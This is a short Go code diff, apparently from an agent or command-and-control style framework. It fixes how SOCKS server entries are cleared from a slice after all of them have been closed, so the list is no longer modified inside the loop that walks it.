@@ -2128,10 +2128,11 @@ func (a *Agent) TaskPrepare(Command int, Info any, Message *map[string]string, C
 
 				}
 
-				/* remove the socks server from the array */
-				a.SocksSvr = append(a.SocksSvr[:i], a.SocksSvr[i+1:]...)
-
 			}
+
+			/* every socks server has been closed: remove them all from the array
+			 * (not one by one inside the loop that walks it) */
+			a.SocksSvr = nil
 
 			a.SocksSvrMtx.Unlock()
 
